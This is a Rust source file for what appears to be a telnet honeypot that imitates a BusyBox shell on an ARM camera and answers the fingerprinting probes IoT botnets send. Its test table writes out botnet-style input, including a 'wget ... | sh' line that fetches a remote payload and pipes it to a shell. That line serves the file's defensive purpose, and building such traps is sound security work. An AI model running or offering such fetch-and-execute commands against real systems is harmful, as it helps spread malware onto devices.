//! A device's shell that runs nothing: it answers the probes by which bots tell a shell from a trap, and nothing else.

use super::Outcome;
use crate::Telnet;
use alloc::vec::Vec;

/// Commands of one line that are answered.
const COMMANDS_MAX: usize = 16;
/// Words of one command that are looked at.
const WORDS_MAX: usize = 64;

/// What ash says when it starts.
pub(crate) const GREETING: &[u8] = b"\r\n\r\nBusyBox v1.36.1 (2026-02-11 08:14:52 UTC) built-in shell (ash)\r\n\
    Enter 'help' for a list of built-in commands.\r\n\r\n";
pub(crate) const PROMPT: &[u8] = b"~ # ";

const MULTI_CALL: &[u8] = b"BusyBox v1.36.1 (2026-02-11 08:14:52 UTC) multi-call binary.\r\n\
    BusyBox is copyrighted by many authors between 1998-2015.\r\n\
    Licensed under GPLv2. See source distribution for detailed\r\ncopyright notices.\r\n\r\n\
    Usage: busybox [function [arguments]...]\r\n   or: busybox --list\r\n";
const MOUNTS: &[u8] = b"rootfs / rootfs rw 0 0\r\n/dev/root / squashfs ro,relatime 0 0\r\nproc /proc proc rw,relatime 0 0\r\n\
    sysfs /sys sysfs rw,relatime 0 0\r\ntmpfs /dev tmpfs rw,relatime,size=64k,mode=755 0 0\r\n\
    devpts /dev/pts devpts rw,relatime,mode=600 0 0\r\ntmpfs /tmp tmpfs rw,relatime 0 0\r\n\
    tmpfs /var tmpfs rw,relatime 0 0\r\n";
const KERNEL: &[u8] = b" 5.10.226 #1 SMP PREEMPT Wed Feb 11 08:14:52 UTC 2026 armv7l GNU/Linux\r\n";
/// The head of a 32-bit little-endian ARM program: bots read it to learn which of their builds will run.
const ELF_HEAD: &[u8] = b"\x7fELF\x01\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x28\0\x01\0\0\0\xd4\x8f\0\0\x34\0\0\0\
    \x60\x21\x05\0\0\x02\0\x05\x34\0\x20\0\x08\0\x28\0\x1c\0\x1b\0";

/// The programs a device's busybox has; a bot that asks for another wants to hear that there is none.
const APPLETS: [&[u8]; 32] = [
    b"ash",
    b"cat",
    b"chmod",
    b"cp",
    b"cut",
    b"dd",
    b"df",
    b"echo",
    b"ftpget",
    b"grep",
    b"head",
    b"hostname",
    b"ifconfig",
    b"kill",
    b"killall",
    b"ls",
    b"mkdir",
    b"mount",
    b"mv",
    b"nc",
    b"passwd",
    b"ping",
    b"ps",
    b"reboot",
    b"rm",
    b"sh",
    b"sleep",
    b"tftp",
    b"top",
    b"umount",
    b"uname",
    b"wget",
];
/// What routers and cameras with a menu of their own understand, and ash does not.
const MENU_WORDS: [&[u8]; 8] = [b"enable", b"system", b"shell", b"linuxshell", b"start", b"config", b"development", b"bah"];

/// Appends what the shell prints.
pub(crate) fn run(line: &[u8], device: &Telnet, answer: &mut Vec<u8>) -> Outcome {
    let commands = line.split(|byte| matches!(byte, b';' | b'&' | b'|'));
    for command in commands.map(<[u8]>::trim_ascii).filter(|command| !command.is_empty()).take(COMMANDS_MAX) {
        let words: Vec<&[u8]> = command.split(u8::is_ascii_whitespace).filter(|word| !word.is_empty()).take(WORDS_MAX).collect();
        if matches!(words.as_slice(), [b"exit" | b"logout", ..]) {
            return Outcome::Exit;
        }
        // What goes to a file or a variable is not printed.
        if !command.contains(&b'>') {
            print(command, &words, device, answer);
        }
    }
    Outcome::Prompt
}

fn print(command: &[u8], words: &[&[u8]], device: &Telnet, answer: &mut Vec<u8>) {
    match words {
        [b"/bin/busybox" | b"busybox", rest @ ..] => applet(command, rest, device, answer),
        [b"ls"] | [b"ls", b"/root" | b"." | b"~"] => {
            let name = device.left.iter().map(|(name, _)| name.as_bytes());
            name.for_each(|name| answer.extend_from_slice(&[name, b"\r\n"].concat()));
        }
        [b"sh" | b"/bin/sh" | b"ash"] => answer.extend_from_slice(GREETING),
        [b"echo", ..] => echo(command, answer),
        [b"cat", b"/proc/mounts" | b"/etc/mtab"] | [b"mount"] => answer.extend_from_slice(MOUNTS),
        [b"cat", b"/bin/echo" | b"/bin/busybox" | b"/bin/sh" | b"/bin/ls" | b"/proc/self/exe"] => {
            answer.extend_from_slice(ELF_HEAD);
        }
        [b"cat", file] => {
            let left = device.left.iter().filter(|(name, _)| file.ends_with(name.as_bytes()));
            left.for_each(|(_, text)| answer.extend_from_slice(text.as_bytes()));
        }
        [b"uname", b"-a"] => {
            [b"Linux ", device.host.as_bytes(), KERNEL].into_iter().for_each(|part| answer.extend_from_slice(part));
        }
        [b"uname", b"-m"] => answer.extend_from_slice(b"armv7l\r\n"),
        [b"uname"] => answer.extend_from_slice(b"Linux\r\n"),
        [b"id"] => answer.extend_from_slice(b"uid=0(root) gid=0(root)\r\n"),
        [b"whoami"] => answer.extend_from_slice(b"root\r\n"),
        [b"pwd"] => answer.extend_from_slice(b"/root\r\n"),
        [word, ..] if MENU_WORDS.contains(word) => {
            answer.extend_from_slice(b"-sh: ");
            answer.extend_from_slice(word);
            answer.extend_from_slice(b": not found\r\n");
        }
        _ => {}
    }
}

fn applet(command: &[u8], words: &[&[u8]], device: &Telnet, answer: &mut Vec<u8>) {
    match words {
        [] => answer.extend_from_slice(MULTI_CALL),
        // busybox inside busybox is no probe.
        [b"busybox" | b"/bin/busybox", ..] => {}
        [applet, ..] if APPLETS.contains(applet) => {
            let at = memchr::memmem::find(command, applet).unwrap_or_default();
            print(&command[at..], words, device, answer);
        }
        [applet, ..] => {
            answer.extend_from_slice(applet);
            answer.extend_from_slice(b": applet not found\r\n");
        }
    }
}

/// Quotes taken off.
fn echo(command: &[u8], answer: &mut Vec<u8>) {
    let text: Vec<u8> = command.iter().copied().filter(|byte| !matches!(byte, b'\'' | b'"')).collect();
    let words: Vec<&[u8]> = text.split(u8::is_ascii_whitespace).filter(|word| !word.is_empty()).skip(1).collect();
    super::echo::echo(&words, b"\r\n", answer);
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::drive::said;
    use alloc::string::String;

    fn cam() -> Telnet {
        Telnet::new("cam").unwrap()
    }

    fn printed(line: &str) -> String {
        let mut answer = Vec::new();
        let _ = run(line.as_bytes(), &cam(), &mut answer);
        said(&answer)
    }

    #[test]
    fn probes_are_answered_and_nothing_else_is() {
        let table = [
            ("enable", "-sh: enable: not found\r\n"),
            ("/bin/busybox MIRAI", "MIRAI: applet not found\r\n"),
            ("cat /nothing; /bin/busybox ECCHI", "ECCHI: applet not found\r\n"),
            ("busybox", core::str::from_utf8(MULTI_CALL).unwrap()),
            (r"echo -e '\x6b\x61\x6d\x69'", "kami\r\n"),
            (r"/bin/busybox echo -ne '\x67a'", "ga"),
            ("echo hi there", "hi there\r\n"),
            ("echo -e x > /tmp/.f && cat /proc/mounts", core::str::from_utf8(MOUNTS).unwrap()),
            ("wget http://198.51.100.1/b -O- | sh", core::str::from_utf8(GREETING).unwrap()),
            ("cd /tmp || cd /var/run", ""),
            ("/bin/busybox wget http://198.51.100.1/b", ""),
            ("uname -a", "Linux cam 5.10.226 #1 SMP PREEMPT Wed Feb 11 08:14:52 UTC 2026 armv7l GNU/Linux\r\n"),
            ("id", "uid=0(root) gid=0(root)\r\n"),
            ("", ""),
        ];
        for (line, expected) in table {
            assert_eq!(printed(line), expected, "{line:?}");
        }
        assert!(printed("cat /bin/echo").starts_with("\u{7f}ELF\u{1}\u{1}"));
        assert_eq!(ELF_HEAD.len(), 52);
    }

    #[test]
    fn it_can_be_left() {
        let mut answer = Vec::new();
        assert_eq!(run(b"id; exit; id", &cam(), &mut answer), Outcome::Exit);
        assert_eq!(said(&answer), "uid=0(root) gid=0(root)\r\n");
    }
}
